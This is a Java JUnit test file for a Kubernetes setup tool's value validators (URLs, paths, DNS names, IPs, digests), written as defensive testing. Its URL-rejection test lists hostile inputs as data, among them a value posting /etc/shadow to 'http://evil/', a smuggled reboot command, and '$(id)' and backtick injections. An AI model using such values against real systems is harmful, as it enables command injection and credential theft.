package io.corekube.value;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.corekube.fuzz.Fuzz;
import io.corekube.fuzz.HostileStrings;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The value kinds: what each accepts, what it refuses with the field named, and that no secret is echoed. */
class ValueKindsTest {

    private static final List<String> URL_SEEDS = List.of("https://dl.k8s.io/v1.31.0/bin/linux/amd64",
            "http://10.0.0.1:8080/a/b%20c?x=1", "https://[::1]:443/x", "https://h.example/f~x_y-z.tar.gz");

    @ParameterizedTest
    @ValueSource(strings = {"https://dl.k8s.io/v1.31.0/bin/linux/amd64", "http://10.0.0.1:8080/a/b%20c?x=1",
            "https://[fd00::1]:443/x", "https://h.example", "http://h/a+b,c=d@e:f~g"})
    void urlsThatFitAreKeptAsGiven(String text) {
        assertEquals(text, HttpUrl.parse("binariesUrl", text).toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"http://x&/usr/bin/reboot&#", "https://h/f --post-file=/etc/shadow http://evil/",
            "ftp://h/x", "file:///etc/passwd", "http://h/a;b", "http://h/$(id)", "http://h/`id`", "http://h/a'b",
            "http://h/a\"b", "http://h/%zz", "http://h/100%", "http://h/a\nb", "http://h/a\u0000b", "http://h/a\u2028b",
            "http://h/x#frag", "http://h/../etc", "http://h:0/x", "http://h:70000/x", "HTTP://h/x", "//h/x", "http://",
            "http://h_/x", "http://-h/x", "http://h/a|b", "http://h/a<b", "http://h/a\\b", "http://h/a*b"})
    void hostileUrlsAreRefusedNamingTheField(String text) {
        InvalidValueException e = assertThrows(InvalidValueException.class, () -> HttpUrl.parse("binariesUrl", text));
        assertEquals("binariesUrl", e.field());
        assertTrue(e.getMessage().startsWith("binariesUrl: not a valid http(s) URL: "), e.getMessage());
    }

    @Test
    void userInformationIsRefusedWithoutShowingThePassword() {
        InvalidValueException e = assertThrows(InvalidValueException.class,
                () -> HttpUrl.parse("flannelUrl", "https://admin:CANARY-s3cret@host/f"));
        assertFalse(e.getMessage().contains("CANARY"), e.getMessage());
        assertFalse(e.getMessage().contains("admin"), e.getMessage());
    }

    @Test
    void percentIsDoubledForSystemdAndSegmentsAppendSafely() {
        HttpUrl url = HttpUrl.parse("u", "https://h/a%2Fb");
        assertEquals("https://h/a%%2Fb", url.forSystemd());
        assertEquals("https://h/a%2Fb/kubelet", url.resolve("binary", "kubelet").toString());
        assertThrows(InvalidValueException.class, () -> url.resolve("binary", ".."));
        assertThrows(InvalidValueException.class, () -> url.resolve("binary", "a b"));
    }

    @Test
    void digestsAreHexOfTheirExactLength() {
        String sum = "A".repeat(64);
        assertEquals("a".repeat(64), HexDigest.sha256("sha256", sum).toString());
        assertThrows(InvalidValueException.class, () -> HexDigest.sha256("sha256", "a".repeat(63)));
        assertThrows(InvalidValueException.class, () -> HexDigest.sha512("sha512", "a".repeat(64)));
        InvalidValueException e = assertThrows(InvalidValueException.class,
                () -> HexDigest.sha256("sha256 of kubelet", "g" + "a".repeat(63)));
        assertEquals("sha256 of kubelet", e.field());
        assertThrows(InvalidValueException.class, () -> HexDigest.sha256("s", "\u0661".repeat(64)));
    }

    @Test
    void dnsNamesFollowRfc1123InLowerCase() {
        assertEquals("kube.local", DnsName.parse("clusterDomain", "Kube.Local").toString());
        for (String bad : List.of("", "a..b", "-a.b", "a-.b", "a_b", "a b", "a.b.", "1.2.3.4", "\u0430.com",
                "a".repeat(64) + ".b", ("a.").repeat(127) + "bb", "a\nb")) {
            InvalidValueException e = assertThrows(InvalidValueException.class, () -> DnsName.parse("clusterDomain", bad), bad);
            assertEquals("clusterDomain", e.field());
        }
    }

    @Test
    void filePathsAreAbsoluteWithPlainSegments() {
        assertEquals("/opt/bin/kubelet", FilePath.parse("path", "/opt/bin/kubelet").toString());
        assertEquals("/opt/bin/kubelet.part", FilePath.parse("p", "/opt/bin").resolve("p", "kubelet.part").toString());
        for (String bad : List.of("opt/bin", "/opt/../etc", "/opt//bin", "/opt/bin/", "/a b", "/a;b", "/a$b", "/a\nb",
                "/./a", "/" + "a".repeat(256))) {
            assertThrows(InvalidValueException.class, () -> FilePath.parse("path", bad), bad);
        }
    }

    @Test
    void plainTextRefusesControlsAndSeparatorsButKeepsUnicode() {
        assertEquals("Kubernetes – Prüfung 名前", PlainText.line("description", "Kubernetes – Prüfung 名前").toString());
        assertEquals("a\n\tb\n", PlainText.multiline("content", "a\n\tb\n").toString());
        for (String bad : List.of("a\nb", "a\rb", "a\u0000b", "a\u0085b", "a\u2028b", "a\u2029b", "a\ufeffb",
                "a\ud800b", " a", "a ", "a\tb", "")) {
            InvalidValueException e = assertThrows(InvalidValueException.class, () -> PlainText.line("description", bad));
            assertEquals("description", e.field());
        }
        assertThrows(InvalidValueException.class, () -> PlainText.multiline("content", "a\r\nb"));
        assertThrows(InvalidValueException.class, () -> PlainText.multiline("content", "a\u0000b"));
    }

    @Test
    void ipv4AddressesAndCidrsFollowGosRulesWithAsciiDigitsOnly() {
        assertEquals("10.1.0.10", Ipv4Address.parse("clusterDnsIp", "10.1.0.10").toString());
        assertEquals(0xFFFFFFFFL, Ipv4Address.bits("255.255.255.255"));
        for (String bad : List.of("256.0.0.1", "01.2.3.4", "1.2.3", "1.2.3.4.5", "\u0661.2.3.4", "\uff11.2.3.4", " 1.2.3.4",
                "1.2.3.4 ", "0x7f.0.0.1", "-1.2.3.4", "")) {
            assertEquals(-1, Ipv4Address.bits(bad), bad);
            assertEquals("ip", assertThrows(InvalidValueException.class, () -> Ipv4Address.parse("ip", bad)).field());
        }
        Ipv4Cidr cidr = Ipv4Cidr.parse("serviceCidr", "10.1.2.3/16");
        assertEquals("10.1.2.3/16", cidr.toString());
        assertEquals(Ipv4Address.bits("10.1.0.0"), cidr.network());
        assertTrue(cidr.contains(Ipv4Address.parse("a", "10.1.255.255")));
        assertFalse(cidr.contains(Ipv4Address.parse("a", "10.2.0.0")));
        for (String bad : List.of("10.0.0.0/33", "10.0.0.0/-1", "10.0.0.0/08", "10.0.0.0", "10.0.0.0/\u0661", "10.0.0.0/16/1", "/8")) {
            assertEquals("serviceCidr", assertThrows(InvalidValueException.class, () -> Ipv4Cidr.parse("serviceCidr", bad)).field(), bad);
        }
    }

    @Test
    void fuzzedAddressesAndCidrsParseToTheirOwnTextOrFailTyped() {
        List<String> seeds = List.of("10.244.0.0/16", "192.168.1.1", "0.0.0.0/0", "255.255.255.255/32");
        Fuzz.seeded(4343).forAll(Fuzz.RUNS, f -> f.mixed(seeds, 20), text -> {
            try {
                assertEquals(text, Ipv4Address.parse("ip", text).toString(), "an accepted address is written as given");
            } catch (InvalidValueException refused) {
                assertEquals(-1, Ipv4Address.bits(text));
            }
            try {
                assertEquals(text, Ipv4Cidr.parse("cidr", text).toString(), "an accepted CIDR is written as given");
                assertTrue(text.chars().allMatch(c -> c >= '0' && c <= '9' || c == '.' || c == '/'), text);
            } catch (InvalidValueException refused) {
                assertEquals("cidr", refused.field());
            }
        });
    }

    @Test
    void everyHostileStringIsRefusedOrAcceptedAsItIsByEveryKind() {
        for (HostileStrings.Case c : HostileStrings.all()) {
            String v = c.value();
            accepted(v, () -> HttpUrl.parse("f", v).toString());
            accepted(v, () -> FilePath.parse("f", v).toString());
            accepted(v, () -> PlainText.line("f", v).toString());
            acceptedIgnoringCase(v, () -> DnsName.parse("f", v).toString());
            acceptedIgnoringCase(v, () -> HexDigest.ofLength("f", v, 1, 128).toString());
        }
    }

    @Test
    void fuzzedUrlsEitherParseToOneShellSafeWordOrFailTyped() {
        Fuzz.seeded(20261204).forAll(Fuzz.RUNS, f -> f.mixed(URL_SEEDS, 40), text -> {
            HttpUrl url;
            try {
                url = HttpUrl.parse("url", text);
            } catch (InvalidValueException refused) {
                return;
            }
            assertEquals(text, url.toString());
            assertTrue(text.matches("https?://[A-Za-z0-9._~:/?@+,=%\\[\\]-]+"), text);
            assertTrue(url.uri().getUserInfo() == null && url.uri().getFragment() == null, text);
        });
    }

    @Test
    void fuzzedTextOfEveryKindFailsOnlyTyped() {
        Fuzz.seeded(4242).forAll(Fuzz.RUNS, f -> f.hostileString(30), text -> {
            Fuzz.onlyTyped(InvalidValueException.class, () -> DnsName.parse("f", text));
            Fuzz.onlyTyped(InvalidValueException.class, () -> FilePath.parse("f", text));
            Fuzz.onlyTyped(InvalidValueException.class, () -> PlainText.line("f", text));
            Fuzz.onlyTyped(InvalidValueException.class, () -> PlainText.multiline("f", text));
            Fuzz.onlyTyped(InvalidValueException.class, () -> HexDigest.ofLength("f", text, 1, 64));
        });
    }

    private static void accepted(String given, java.util.function.Supplier<String> parse) {
        try {
            assertEquals(given, parse.get());
        } catch (InvalidValueException refused) {
            assertEquals("f", refused.field());
        }
    }

    private static void acceptedIgnoringCase(String given, java.util.function.Supplier<String> parse) {
        try {
            assertTrue(given.equalsIgnoreCase(parse.get()), given);
        } catch (InvalidValueException refused) {
            assertEquals("f", refused.field());
        }
    }
}
